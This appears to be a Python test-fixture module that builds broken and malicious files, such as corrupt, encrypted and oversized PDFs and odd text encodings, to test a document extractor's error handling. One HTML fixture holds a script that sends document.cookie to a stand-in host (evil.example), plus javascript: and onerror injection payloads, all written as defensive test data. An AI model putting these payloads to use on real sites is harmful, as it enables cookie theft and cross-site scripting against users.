"""The hostile set: broken, odd and malicious files, made here (nothing downloaded).

Each maker writes one file into a folder and returns its path; `HOSTILE` lists them
with the error class `load` must raise (None: it must load, perhaps with a warning).
"""
from __future__ import annotations

import io
import os
from collections.abc import Callable
from pathlib import Path

from extract import errors

ROOT = Path(__file__).resolve().parents[2]
REAL_PDF = ROOT / "corpus" / "pdf" / "ballerup_notat_2012-204248.pdf"
REAL_TEXT = ROOT / "corpus" / "seeds" / "000_d0d93f54edcaac31.txt"
DANISH = "Beskæftigelsesministeren svarer på spørgsmål om førtidspension og fleksjob i Århus.\n"


def corrupt_pdf(folder: Path) -> Path:
    path = folder / "corrupt.pdf"
    path.write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 64)
    return path


def truncated_pdf(folder: Path) -> Path:
    data = REAL_PDF.read_bytes()
    path = folder / "truncated.pdf"
    path.write_bytes(data[: len(data) // 2])
    return path


def encrypted_pdf(folder: Path) -> Path:
    import pikepdf

    path = folder / "encrypted.pdf"
    with pikepdf.open(REAL_PDF) as pdf:
        pdf.save(path, encryption=pikepdf.Encryption(owner="ejer", user="hemmelig", R=6))
    return path


def pdf_500_pages(folder: Path) -> Path:
    """500 real pages, each with a line of text (over the default 400-page limit)."""
    from reportlab.pdfgen import canvas

    path = folder / "pages500.pdf"
    pdf = canvas.Canvas(str(path))
    for number in range(500):
        pdf.drawString(72, 720, f"Side {number + 1}: {DANISH.strip()}")
        pdf.showPage()
    pdf.save()
    return path


def pdf_lying_page_count(folder: Path) -> Path:
    """One page, but the page tree claims 500."""
    import pikepdf

    path = folder / "lying_count.pdf"
    with pikepdf.open(REAL_PDF) as pdf:
        pdf.Root.Pages.Count = 500
        pdf.save(path)
    return path


def image_only_pdf(folder: Path) -> Path:
    """A 'scan': text drawn into a bitmap, the bitmap saved as a PDF page."""
    from PIL import Image, ImageDraw

    image = Image.new("L", (1240, 1754), 255)
    draw = ImageDraw.Draw(image)
    for line in range(20):
        draw.text((100, 100 + 40 * line), DANISH.strip(), fill=0)
    path = folder / "scan.pdf"
    image.save(path, "PDF", resolution=150)
    return path


def zero_byte(folder: Path) -> Path:
    path = folder / "empty.txt"
    path.write_bytes(b"")
    return path


def binary_named_txt(folder: Path) -> Path:
    path = folder / "binary.txt"
    path.write_bytes(bytes((i * 7919 + 13) % 256 for i in range(64 * 1024)))
    return path


def latin1_text(folder: Path) -> Path:
    path = folder / "latin1.txt"
    path.write_bytes(DANISH.encode("latin-1") * 5)
    return path


def utf16_text(folder: Path) -> Path:
    path = folder / "utf16.txt"
    path.write_bytes(DANISH.encode("utf-16") * 1)  # with BOM
    return path


def utf16_no_bom(folder: Path) -> Path:
    path = folder / "utf16le.txt"
    path.write_bytes((DANISH * 5).encode("utf-16-le"))
    return path


HOSTILE_HTML = """<!doctype html><html><head><title>t</title>
<script>document.write('SCRIPTED'); fetch('https://evil.example/steal?c=' + document.cookie)</script>
<style>body { background: url(javascript:alert('STYLED')) }</style></head>
<body onload="alert('ONLOAD')"><h1>Svar på spørgsmål nr. 12</h1>
<p>Ministeren svarer: <a href="javascript:alert('LINKED')">se bilag</a>.</p>
<iframe src="https://evil.example/frame">IFRAMED</iframe>
<p>Med venlig hilsen<br>Ministeren</p><img src=x onerror="alert('IMGERR')"></body></html>
"""


def hostile_html(folder: Path) -> Path:
    path = folder / "hostile.html"
    path.write_text(HOSTILE_HTML, encoding="utf-8")
    return path


def huge_text(folder: Path) -> Path:
    """50 MB of real Danish text (over the default 25 MB limit)."""
    path = folder / "huge.txt"
    chunk = REAL_TEXT.read_bytes()
    with path.open("wb") as out:
        written = 0
        while written < 50 * 1024 * 1024:
            out.write(chunk)
            written += len(chunk)
    return path


def unsupported_extension(folder: Path) -> Path:
    path = folder / "slides.pptx"
    path.write_bytes(b"PK\x03\x04" + os.urandom(256))
    return path


def directory_named_txt(folder: Path) -> Path:
    path = folder / "folder.txt"
    path.mkdir()
    return path


#: (maker, error `load` raises or None if the file loads)
HOSTILE: list[tuple[Callable[[Path], Path], type[errors.SporbarError] | None]] = [
    (corrupt_pdf, errors.CorruptDocument),
    (truncated_pdf, errors.CorruptDocument),
    (encrypted_pdf, errors.EncryptedDocument),
    (pdf_500_pages, errors.TooLarge),
    (pdf_lying_page_count, None),
    (image_only_pdf, None),  # OCR reads it when installed; NeedsOcr otherwise (checked apart)
    (zero_byte, errors.EmptyDocument),
    (binary_named_txt, errors.CorruptDocument),
    (latin1_text, None),
    (utf16_text, None),
    (utf16_no_bom, None),
    (hostile_html, None),
    (huge_text, errors.TooLarge),
    (unsupported_extension, errors.UnsupportedFormat),
    (directory_named_txt, errors.UnreadableFile),
]


def make_all(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    return {maker.__name__: maker(folder) for maker, _ in HOSTILE}


def pdf_bytes_of(text: str) -> bytes:
    """A small one-page PDF with `text` (for fuzzing the PDF path)."""
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer)
    for i, line in enumerate(text.splitlines()[:40]):
        pdf.drawString(72, 760 - 16 * i, line)
    pdf.save()
    return buffer.getvalue()
